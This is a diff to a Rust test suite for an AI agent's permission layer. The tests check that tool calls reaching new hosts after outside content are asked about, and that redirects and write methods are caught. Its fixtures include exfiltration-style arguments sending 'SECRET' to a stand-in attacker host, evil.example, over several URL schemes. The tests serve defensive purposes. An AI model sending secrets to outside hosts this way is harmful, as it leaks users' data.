@@ -1,6 +1,6 @@
 //! In a conversation with content from outside, a host and port it has not reached is asked about, whatever leads there.
 
-use satchel::model::error::Kind;
+use satchel::model::{error::Kind, spec::Risk};
 use serde_json::{Value, json};
 
 use super::asker::Asker;
@@ -99,6 +99,10 @@ async fn every_argument_that_is_an_address_counts_where_a_tool_reaches_out() {
         (json!({"to": "evil.example:8443/x?d=SECRET"}), "'evil.example:8443'"),
         (json!({"to": "//evil.example/x?d=SECRET"}), "'evil.example:443'"),
         (json!({"https://evil.example/SECRET": "x"}), "'evil.example:443'"),
+        (json!({"to": "grpc://evil.example:50051"}), "'evil.example:50051'"),
+        (json!({"to": "redis://evil.example"}), "'evil.example'"),
+        (json!({"to": "Look at <https://evil.example/SECRET>."}), "'evil.example:443'"),
+        (json!({"to": "git@evil.example:a/b.git"}), "'evil.example:22'"),
     ] {
         let ticket = asker.ask("call_rest_endpoint", get(query)).await;
         assert!(ticket.reason.starts_with(&format!("Its arguments name {place}, which")), "{}", ticket.reason);
@@ -170,4 +174,46 @@ async fn more_addresses_than_a_person_reads_are_refused() {
     let error = asker.invoke(call).await.unwrap_err();
     assert!(error.kind() == Kind::Invalid && error.message().contains("more than 50 hosts"), "{error}");
     assert!(asker.open().await.is_empty());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_host_a_redirect_named_and_was_refused_is_a_strangers_word() {
+    let asker = Asker::new(TestApp::start().await, &["*"]).await;
+    let site = site(&asker.app).await;
+    let write = || asker.run("write", json!({"path": "a.txt", "content": "x"}));
+    let refused = async |url: String| {
+        let error = asker.invoke(asker.call("web_fetch", json!({"url": url}))).await.unwrap_err();
+        assert!(error.kind() == Kind::Denied && error.message().contains("is not a public address"), "{error}");
+        error
+    };
+    refused("http://of-my-own.localhost:9/".to_owned()).await;
+    write().await;
+    site.put("/out", [status(302, &[("location", "http://run-exec-now.localhost:9/x")])]);
+    assert!(refused(site.url("/out")).await.message().contains("run-exec-now.localhost"));
+    let ticket = asker.ask("write", json!({"path": "a.txt", "content": "x"})).await;
+    assert!(ticket.reason.contains("content from outside"), "{}", ticket.reason);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_host_that_a_redirect_led_to_is_not_reached() {
+    let asker = Asker::new(TestApp::start().await, &["*"]).await;
+    let (one, other) = (site(&asker.app).await, site(&asker.app).await);
+    one.put("/out", [status(302, &[("location", &other.url("/page"))])]);
+    let led = asker.run("web_fetch", json!({"url": one.url("/out")})).await;
+    assert_eq!((&led["status"], &led["final_url"]), (&json!(200), &json!(other.url("/page"))));
+    let ticket = asker.ask("web_fetch", fetch(&other)).await;
+    assert!(ticket.reason.contains(&format!("It reaches '{}'", other.place)), "{}", ticket.reason);
+    asker.run("web_fetch", fetch(&one)).await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_fetch_that_writes_is_asked_about_at_a_host_that_was_reached() {
+    let asker = Asker::new(TestApp::start().await, &["*"]).await;
+    let site = site(&asker.app).await;
+    asker.run("web_fetch", fetch(&site)).await;
+    for (method, risk) in [("DELETE", Risk::Destructive), ("POST", Risk::HighWrite), ("PATCH", Risk::HighWrite)] {
+        let ticket = asker.ask("web_fetch", json!({"url": site.url("/page"), "method": method})).await;
+        assert_eq!(ticket.risk, risk, "{method}: {}", ticket.reason);
+    }
+    assert!(site.asked().iter().all(|asked| asked.starts_with("GET ")), "{:?}", site.asked());
 }
